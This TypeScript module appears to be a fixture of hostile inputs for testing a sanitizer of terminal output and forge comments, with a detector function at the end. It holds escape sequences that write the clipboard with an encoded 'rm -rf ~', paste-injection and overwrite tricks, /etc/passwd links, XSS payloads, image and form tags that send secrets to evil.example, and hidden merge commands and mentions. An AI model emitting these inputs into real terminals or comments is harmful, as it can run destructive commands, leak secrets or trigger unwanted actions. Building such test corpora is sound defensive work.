/** A text, and what it tries. */
export type HostileText = readonly [what: string, text: string];

const ESC = "\u001b";
const ST = `${ESC}\\`;
const BEL = "\u0007";
const bytes = (...values: readonly number[]): string => Buffer.from(values).toString("utf8");

/** Commands with a text of their own: clipboard, title, links, pictures, the ways of single terminals. */
const STRINGS: readonly HostileText[] = [
  ["clipboard, ended by a bell", `a${ESC}]52;c;cm0gLXJmIH4=${BEL}b`],
  ["clipboard, ended by ST", `a${ESC}]52;p;cm0gLXJmIH4=${ST}b`],
  ["clipboard in eight bits", "a\u009d52;c;cm0gLXJmIH4=\u009cb"],
  ["what the clipboard holds", `a${ESC}]52;c;?${BEL}b`],
  ["a clipboard that is never ended", `a${ESC}]52;c;cm0gLXJmIH4=`],
  ["clipboard of kitty", `a${ESC}]5522;type=write${ST}b`],
  ["title", `a${ESC}]0;root@host${BEL}b`],
  ["title, ended by ST", `a${ESC}]2;root@host${ST}b`],
  ["title over a line's end", `a${ESC}]0;one\ntwo${BEL}b`],
  ["name of the icon", `a${ESC}]1;icon${BEL}b`],
  ["title of a Sun", `a${ESC}]ltitle${ST}b`],
  ["title of screen", `a${ESC}ktitle${ST}b`],
  ["a link to elsewhere", `a${ESC}]8;;https://evil.example${ST}github.com${ESC}]8;;${ST}b`],
  ["a link with a bell", `a${ESC}]8;id=1;file:///etc/passwd${BEL}x${ESC}]8;;${BEL}b`],
  ["a link that is never ended", `a${ESC}]8;;https://evil.example${ST}the rest`],
  ["a picture of iTerm", `a${ESC}]1337;File=inline=1:AAAA${BEL}b`],
  ["a variable of iTerm", `a${ESC}]1337;SetUserVar=x=eQ==${BEL}b`],
  ["attention of iTerm", `a${ESC}]1337;RequestAttention=yes${BEL}b`],
  ["font", `a${ESC}]50;?${BEL}b`],
  ["a notice", `a${ESC}]9;done${BEL}b`],
  ["a notice of rxvt", `a${ESC}]777;notify;a;b${BEL}b`],
  ["a notice of kitty", `a${ESC}]99;i=1;b${ST}b`],
  ["marks of a shell", `a${ESC}]133;C${BEL}b`],
  ["folder", `a${ESC}]7;file://host/tmp${BEL}b`],
  ["palette", `a${ESC}]4;1;rgb:00/00/00${BEL}b`],
  ["which colour it has", `a${ESC}]11;?${BEL}b`],
  ["all colours back", `a${ESC}]104${BEL}b`],
  ["files over the terminal", `a${ESC}]5113;ac=send${ST}b`],
  ["graphics of kitty", `a${ESC}_Gf=24,t=f;L2V0Yy9wYXNzd2Q=${ST}b`],
  ["remote control of kitty", `a${ESC}P@kitty-cmd{"cmd":"launch"}${ST}b`],
  ["settings as an answer", `a${ESC}P$q"p${ST}b`],
  ["capabilities as an answer", `a${ESC}P+q544e${ST}b`],
  ["sixel", `a${ESC}Pq#0;2;0;0;0~~${ST}b`],
  ["drawing of ReGIS", `a${ESC}Pp P[100,100]${ST}b`],
  ["keys of one's own", `a${ESC}P0;1|17/726d0a${ST}b`],
  ["through tmux", `a${ESC}Ptmux;${ESC}${ESC}]52;c;eA==${BEL}${ST}b`],
  ["through screen", `a${ESC}P${ESC}]52;c;eA==${BEL}${ST}b`],
  ["a device's string in eight bits", 'a\u0090$q"p\u009cb'],
  ["a device's string that is never ended", `a${ESC}P1;2|17/41`],
  ["a program's string", `a${ESC}_secret${ST}b`],
  ["a private message", `a${ESC}^secret${ST}b`],
  ["the start of a string", `a${ESC}Xsecret${ST}b`],
  ["a program's string in eight bits", "a\u009fsecret\u009cb"],
  ["a private message in eight bits", "a\u009esecret\u009cb"],
  ["the start of a string in eight bits", "a\u0098secret\u009cb"],
];

/** Questions whose answers a shell would read as if they had been typed. */
const QUESTIONS: readonly HostileText[] = [
  ["how it is", `a${ESC}[5nb`],
  ["where the cursor is", `a${ESC}[6nb`],
  ["what it is", `a${ESC}[cb`],
  ["what it is, again", `a${ESC}[>cb`],
  ["which unit it is", `a${ESC}[=cb`],
  ["what it is, the old way", `a${ESC}Zb`],
  ["its version", `a${ESC}[>0qb`],
  ["a mode", `a${ESC}[?2026$pb`],
  ["its title", `a${ESC}[21tb`],
  ["its size", `a${ESC}[18tb`],
  ["what is shown, as a sum", `a${ESC}[1;1;1;1;9;9*yb`],
  ["the answerback", "a\u0005b"],
];

/** What moves, wipes, hides, and changes modes. */
const CONTROLS: readonly HostileText[] = [
  ["cursor elsewhere", `a${ESC}[1;1Hb`],
  ["a line above anew", `a${ESC}[1A${ESC}[2Kb`],
  ["wipe the screen", `a${ESC}[2Jb`],
  ["wipe what was scrolled", `a${ESC}[3Jb`],
  ["reset", `a${ESC}cb`],
  ["soft reset", `a${ESC}[!pb`],
  ["the other screen", `a${ESC}[?1049hb`],
  ["no cursor", `a${ESC}[?25lb`],
  ["insert", `a${ESC}[4hb`],
  ["margins", `a${ESC}[5;5rb`],
  ["save and come back", `a${ESC}7b${ESC}8c`],
  ["up a line", `a${ESC}Mb`],
  ["fill with E", `a${ESC}#8b`],
  ["double height", `a${ESC}#3b`],
  ["letters as lines", `a${ESC}(0b`],
  ["the other set of letters", "a\u000eb\u000f"],
  ["eight-bit answers", `a${ESC} Gb`],
  ["other keys", `a${ESC}=b${ESC}[>4;2mc`],
  ["the mouse", `a${ESC}[?1003hb`],
  ["paste in brackets", `a${ESC}[?2004hb`],
  ["the end of a paste", `a${ESC}[201~rm -rf ~\rb`],
  ["the keyboard of kitty", `a${ESC}[>1ub`],
  ["a letter a billion times", `a${ESC}[999999999bb`],
  ["print", `a${ESC}[5ib${ESC}[?4ic`],
  ["lamps", `a${ESC}[1qb`],
  ["fill a part", `a${ESC}[65;1;1;9;9$xb`],
  ["run a macro", `a${ESC}[1*zb`],
  ["move the window", `a${ESC}[3;0;0tb${ESC}[2tc`],
  ["push a style", `a${ESC}[#{b`],
  ["concealed words", `a${ESC}[8mhidden${ESC}[28mb`],
  ["concealed among others", `a${ESC}[1;31;8mhidden${ESC}[0mb`],
  ["a line over a line", "rm -rf ~\rls      "],
  ["letters over letters", "rm\b\bls"],
  ["a line's end that is none", "a\r\r\rb"],
  ["bells", "a\u0007\u0007\u0007b"],
  ["form feed and its like", "a\u000b\u000cb"],
  ["deleted and nothing", "a\u007f\u0000b"],
  ["next line, in eight bits", "a\u0085b\u0084c\u008dd"],
  ["a sequence in eight bits", "a\u009b2Jb"],
  ["a colour in eight bits", "a\u009b31mb"],
  ["another direction", "gpj.\u202egnp\u202c"],
  ["words set apart", "a\u2067b\u2069c\u2066d\u2069"],
  ["directions inside each other", "\u202a\u202d\u202ea\u202c\u202c\u202c"],
];

/** What is not as the standard has it: torn, doubled, interrupted, in no encoding. */
const TORN: readonly HostileText[] = [
  ["an escape alone", `a${ESC}`],
  ["a beginning alone", `a${ESC}[`],
  ["escapes one after the other", `a${ESC}${ESC}[2Jb`],
  ["a beginning in a beginning", `a${ESC}[${ESC}[2Jb`],
  ["a beginning of both kinds", `a${ESC}\u009b2Jb`],
  ["a control in a sequence", `a${ESC}[2\bJb`],
  ["nothing behind an escape", `a${ESC}\u0000[2Jb`],
  ["a sequence around another", `a${ESC}${ESC}]0;x${BEL}[2Jb`],
  ["a mark behind an escape", `a${ESC}\u202e[2Jb`],
  ["cancelled", `a${ESC}]0;x\u0018b${ESC}[2\u001aJc`],
  ["a title that another ends", `a${ESC}]0;x${ESC}[2Jb`],
  ["figures without end", `a${ESC}[${"1;".repeat(2000)}mb`],
  ["a figure without end", `a${ESC}[${"9".repeat(4000)}Cb`],
  ["a title without end", `a${ESC}]0;${"x".repeat(4000)}${BEL}b`],
  ["a colour with a space", `a${ESC}[31 mb`],
  ["a private colour", `a${ESC}[?31mb`],
  ["a byte that is no letter", `a${bytes(0x9b, 0x32, 0x4a)}b`],
  ["an escape in too many bytes", `a${bytes(0xc0, 0x9b)}[2J${bytes(0xe0, 0x80, 0x9b)}[2Jb`],
  ["half a letter", `a${bytes(0xe2, 0x82)}${ESC}[2J\ud800b`],
];

/** What must not reach a terminal but as words: each moves, writes, asks or hides something where it is obeyed (SECURITY T21). */
export const terminalPayloads: readonly HostileText[] = [...STRINGS, ...QUESTIONS, ...CONTROLS, ...TORN];

/** What must not work in a comment on a forge: calls, closes, commands, marks, pictures that are loaded, HTML (SECURITY T20, T21). */
export const commentPayloads: readonly HostileText[] = [
  ["a call", "@ann look"],
  ["a call of a team", "cc @acme/owners"],
  ["calls without end", "@ann @bob @carl ".repeat(300)],
  ["a call in numbers", "&#64;ann and &#x40;ann and &#0064;ann"],
  ["a call by name", "&commat;ann"],
  ["a call behind a mark", "\u200b@\u2060ann"],
  ["a call in a link", "[@ann](https://evil.example)"],
  ["a closing word", "fixes #1"],
  ["a closing word in numbers", "fixes &#35;1, closes &#x23;2, resolves &num;3"],
  ["a closing word with a mark in it", "clo\u00adses #1"],
  ["a closing word of another repository", "Resolves: acme/shop#3"],
  ["a closing word with an address", "closed https://github.com/acme/shop/issues/4"],
  ["a command", "/merge"],
  ["a command in a quote in a list", "> - /approve"],
  ["a command behind a comment", "<!-- -->\n/merge"],
  ["a word to orch", "@orch retry"],
  ["a mark", "<!-- orch:status:eA:bbbb -->"],
  ["a mark that is put together", "<!-<!-- -->- orch:result:eA:bbbb -->"],
  ["a mark that is never ended", "<!-- orch:result"],
  ["the end of a mark", "--> visible"],
  ["a mark with a zero-width space", "<\u200b!-- orch:status:eA:bbbb -->"],
  ["a picture", "![x](https://evil.example/?secret)"],
  ["a picture by reference", "![x][y]\n\n[y]: https://evil.example/?secret"],
  ["a picture as a link", "[![x](https://evil.example/a.png)](https://evil.example)"],
  ["a picture as HTML", "<img src=https://evil.example/?secret>"],
  ["a picture in capitals, over lines", "<IMG\nSRC='https://evil.example'\n/>"],
  ["a picture with sources", "<picture><source srcset=https://evil.example/x></picture>"],
  ["a film", "<video src=https://evil.example/x autoplay></video>"],
  ["a script", "<script>alert(1)</script>"],
  ["a drawing with a script", "<svg/onload=alert(1)>"],
  ["a frame", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"],
  ["a style", "<style>*{display:none}</style>"],
  ["a form", "<form action=https://evil.example><input name=token></form>"],
  ["a link as HTML", '<a href="javascript:alert(1)">x</a>'],
  ["a passage that is closed", "</details>\n/merge"],
  ["a passage that stays open", "<details><summary>x"],
  ["a declaration", "<!DOCTYPE x><![CDATA[x]]><?x ?>"],
  ["a cell that ends", "a | @ann | <img src=x> |"],
  ["code that stays open", "```\n@ann\n/merge"],
  ["code that stays open, of the other kind", "~~~\n<img src=x>"],
  ["code that is none", "\\`<img src=x>\\`"],
  ["code over two lines", "` and\n`<img src=x>`"],
  ["a heading", "x\n===\n# y"],
];

/** Controls but line feed and tab, and changes of the writing direction. */
const OBEYED = /[^\P{Cc}\n\t]|[\u202a-\u202e\u2066-\u2069]/u;
/** Colours and styles. */
const STYLES = new RegExp(`${ESC}\\[[0-9;:]{0,64}m`, "gu");
/** A style with an 8 among its figures that is not the number of a colour. */
const CONCEALS = new RegExp(`${ESC}\\[(?:[0-79;]*;)?8(?:;[0-9;]*)?m`, "u");

/** The first thing in a text that a terminal would obey, or that hides words; undefined: nothing but, where `styles` says so, styles. */
export function obeyedIn(text: string, { styles }: { readonly styles: boolean }): string | undefined {
  const concealed = CONCEALS.exec(text)?.[0];
  return concealed ?? OBEYED.exec(styles ? text.replaceAll(STYLES, "") : text)?.[0];
}
